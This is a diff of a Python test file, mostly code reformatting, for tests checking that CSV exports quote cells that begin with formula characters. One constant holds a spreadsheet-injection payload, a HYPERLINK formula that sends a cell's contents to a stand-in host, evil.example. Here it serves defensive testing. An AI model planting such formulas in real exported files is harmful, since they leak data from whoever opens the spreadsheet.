@@ -10,12 +10,12 @@ import pandas as pd
 from hypothesis import given
 from hypothesis import strategies as st
 
-from sweep.core.csvcells import TRIGGERS, neutralise, neutralise_frame, restore
 from sweep.answers.humancheck import export_sample, read_labels
 from sweep.answers.output import write_outputs
 from sweep.answers.records import AnswerTrace
 from sweep.answers.replies import JudgeVerdict
 from sweep.answers.summary import summarize_answers
+from sweep.core.csvcells import TRIGGERS, neutralise, neutralise_frame, restore
 from sweep.reporting.frames import write_results
 from sweep.scoring.table import ScoreTable
 from sweep.store.traces import Retrieved
@@ -24,9 +24,15 @@ FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
 # Text that starts like a formula or like one quoted already, numbers, plain text.
 texts = st.one_of(
     st.text(),
-    st.builds(lambda quotes, trigger, rest: "'" * quotes + trigger + rest,
-              st.integers(0, 3), st.sampled_from(TRIGGERS + ("",)), st.text()),
-    st.floats(allow_nan=False).map(repr), st.integers().map(str))
+    st.builds(
+        lambda quotes, trigger, rest: "'" * quotes + trigger + rest,
+        st.integers(0, 3),
+        st.sampled_from(TRIGGERS + ("",)),
+        st.text(),
+    ),
+    st.floats(allow_nan=False).map(repr),
+    st.integers().map(str),
+)
 
 
 def _formula(cell: str) -> bool:
@@ -64,8 +70,14 @@ def test_which_cells_are_quoted():
 
 
 def test_results_csv_quotes_text_and_keeps_numbers(tmp_path):
-    df = pd.DataFrame({"job": [0, 1], "setting": [FORMULA, "size=128"],
-                       "diff": [-0.05, 0.25], "note": [None, "-x"]})
+    df = pd.DataFrame(
+        {
+            "job": [0, 1],
+            "setting": [FORMULA, "size=128"],
+            "diff": [-0.05, 0.25],
+            "note": [None, "-x"],
+        }
+    )
     write_results(tmp_path / "results.csv", df)
     rows = list(csv.DictReader(open(tmp_path / "results.csv", newline="", encoding="utf-8")))
     assert rows[0]["setting"] == "'" + FORMULA and rows[1]["setting"] == "size=128"
@@ -78,9 +90,14 @@ def test_results_csv_quotes_text_and_keeps_numbers(tmp_path):
 def test_per_query_csv_round_trip(tmp_path_factory, query_ids):
     path = tmp_path_factory.mktemp("pq") / "per_query.csv"
     n = len(query_ids)
-    table = ScoreTable(tuple(query_ids), ("recall@5",), np.arange(n, dtype=np.int64),
-                       np.zeros(n, dtype=np.int8), np.zeros(n, dtype=np.int64),
-                       np.linspace(0, 1, n))
+    table = ScoreTable(
+        tuple(query_ids),
+        ("recall@5",),
+        np.arange(n, dtype=np.int64),
+        np.zeros(n, dtype=np.int8),
+        np.zeros(n, dtype=np.int64),
+        np.linspace(0, 1, n),
+    )
     table.write_csv(path)
     with open(path, newline="", encoding="utf-8") as f:
         cells = [row[0] for row in csv.reader(f)][1:]
@@ -91,11 +108,25 @@ def test_per_query_csv_round_trip(tmp_path_factory, query_ids):
 
 def _trace(job: int, query_id: str, answer: str) -> AnswerTrace:
     context = (Retrieved(1, "a.md#0", "a.md", 0, 5, 1, 0.9, "-1 is the answer"),)
-    return AnswerTrace(job, "+size=64", query_id, "@what?", "fact", "=1+1", (), context,
-                       "complete", answer, False,
-                       {"faithful": JudgeVerdict(False, "not in context"),
-                        "relevant": JudgeVerdict(True, "ok"), "correct": JudgeVerdict(True, "ok")},
-                       diagnosis="unfaithful")
+    return AnswerTrace(
+        job,
+        "+size=64",
+        query_id,
+        "@what?",
+        "fact",
+        "=1+1",
+        (),
+        context,
+        "complete",
+        answer,
+        False,
+        {
+            "faithful": JudgeVerdict(False, "not in context"),
+            "relevant": JudgeVerdict(True, "ok"),
+            "correct": JudgeVerdict(True, "ok"),
+        },
+        diagnosis="unfaithful",
+    )
 
 
 def test_judge_sample_is_safe_to_open_and_its_labels_read_back(tmp_path):
@@ -115,15 +146,28 @@ def test_judge_sample_is_safe_to_open_and_its_labels_read_back(tmp_path):
         w = csv.DictWriter(f, fieldnames=list(labelled[0]))
         w.writeheader()
         w.writerows(labelled)
-    assert {(judge, job, qid) for judge, job, qid, _ in read_labels(path)} == \
-        {(j, t.job, t.query_id) for t in traces for j in t.verdicts}
+    assert {(judge, job, qid) for judge, job, qid, _ in read_labels(path)} == {
+        (j, t.job, t.query_id) for t in traces for j in t.verdicts
+    }
 
 
 def test_answers_csv_quotes_a_setting_label(tmp_path):
     traces = [_trace(0, "q1", FORMULA)]
-    write_outputs(tmp_path, traces, summarize_answers(traces, n_boot=50), [], {0: "+size=64"},
-                  stats={"sent": 1, "cached": 0, "failed": 0, "retries": 0, "prompt_tokens": 1,
-                         "completion_tokens": 1})
+    write_outputs(
+        tmp_path,
+        traces,
+        summarize_answers(traces, n_boot=50),
+        [],
+        {0: "+size=64"},
+        stats={
+            "sent": 1,
+            "cached": 0,
+            "failed": 0,
+            "retries": 0,
+            "prompt_tokens": 1,
+            "completion_tokens": 1,
+        },
+    )
     (row,) = csv.DictReader(open(tmp_path / "answers.csv", newline="", encoding="utf-8"))
     assert row["setting"] == "'+size=64" and float(row["faithful"]) == 0.0
 
